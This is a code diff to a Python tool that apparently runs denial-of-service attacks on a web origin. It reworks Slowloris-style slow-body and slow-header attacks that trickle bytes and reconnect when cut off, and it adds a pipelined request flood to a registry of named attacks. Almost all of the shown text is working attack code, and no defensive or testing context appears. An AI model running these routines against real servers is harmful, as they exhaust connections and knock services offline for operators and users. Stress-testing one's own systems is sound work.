@@ -68,22 +68,42 @@ def _spread(addresses: list[str], many: int) -> list[str]:
 
 
 def slow_bodies(origin: str, addresses: list[str], many: int, orders: Orders) -> Tried:
-    """Requests that promise a body and never send it."""
+    """Requests that promise a body and send it a byte at a time."""
     head = f"POST /api/session HTTP/1.1\r\nHost: {urlsplit(origin).netloc}\r\nOrigin: {origin}\r\n"
-    head += "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"
-    tried: Tried = Counter()
-    with ExitStack() as lines:
-        for address in _spread(addresses, many):
-            with suppress(OSError):
-                line = lines.enter_context(_line(origin, address))
-                line.sendall(head.encode())
-                tried["slow bodies"] += 1
-        orders.hold()
-    return tried
+    head += "Content-Type: application/json\r\nContent-Length: 10000\r\n\r\n{"
+    return _crumbs(origin, _spread(addresses, many), orders, "slow bodies", head, lambda turn: " ")
 
 
 def slow_headers(origin: str, addresses: list[str], many: int, orders: Orders) -> Tried:
-    """Headers that come a line at a time and never end; a client that is cut off begins again."""
+    """Headers that come a line at a time and never end."""
+    first = "GET / HTTP/1.1\r\n"
+    return _crumbs(origin, _spread(addresses, many), orders, "slow headers", first, lambda turn: f"x-{turn}: a\r\n")
+
+
+def _crumbs(
+    origin: str, addresses: list[str], orders: Orders, name: str, first: str, crumb: Callable[[int], str]
+) -> Tried:
+    """Requests that come in small pieces; a client that is cut off begins again."""
+    tried: Tried = Counter()
+    with ExitStack() as open_:
+        lines: dict[int, socket.socket] = {}
+        for turn in orders.again():
+            for number, address in enumerate(addresses):
+                with suppress(OSError):
+                    if number not in lines:
+                        lines[number] = open_.enter_context(_line(origin, address))
+                        lines[number].sendall(first.encode())
+                        tried[name] += 1
+                    lines[number].sendall(crumb(turn).encode())
+                    continue
+                lines.pop(number, None)
+            time.sleep(_LOOK_S)
+    return tried
+
+
+def plain_requests(origin: str, addresses: list[str], many: int, orders: Orders) -> Tried:
+    """Pages, asked for again and again over many connections, two hundred of them at once without waiting."""
+    page = f"GET / HTTP/1.1\r\nHost: {urlsplit(origin).netloc}\r\n\r\n".encode()
     tried: Tried = Counter()
     with ExitStack() as open_:
         lines: dict[int, socket.socket] = {}
@@ -92,12 +112,18 @@ def slow_headers(origin: str, addresses: list[str], many: int, orders: Orders) -
                 with suppress(OSError):
                     if number not in lines:
                         lines[number] = open_.enter_context(_line(origin, address))
-                        lines[number].sendall(b"GET / HTTP/1.1\r\n")
-                        tried["slow headers"] += 1
-                    lines[number].sendall(f"x-{turn}: a\r\n".encode())
+                        lines[number].setblocking(False)
+                    lines[number].send(page * (200 if (number + turn) % 50 == 0 else 1))
+                    tried["pages"] += 1
+                    # What was answered by now; the rest is read next time.
+                    with suppress(BlockingIOError):
+                        if lines[number].recv(1 << 20):
+                            continue
+                        raise ConnectionError
                     continue
-                lines.pop(number, None)
-            time.sleep(_LOOK_S)
+                if number in lines:
+                    lines.pop(number).close()
+                tried["pages that were cut off"] += 1
     return tried
 
 
@@ -250,6 +276,7 @@ ATTACKS: dict[str, tuple[Attack, int, int]] = {
     "slow bodies": (slow_bodies, 20, 1_000),
     "slow headers": (slow_headers, 20, 1_000),
     "big headers": (big_headers, 2, 40),
+    "plain requests": (plain_requests, 20, 250),
     "many sockets": (many_sockets, 20, 600),
     "many tables": (many_tables, 12, 550),
     "tables again": (tables_again, 2, 24),
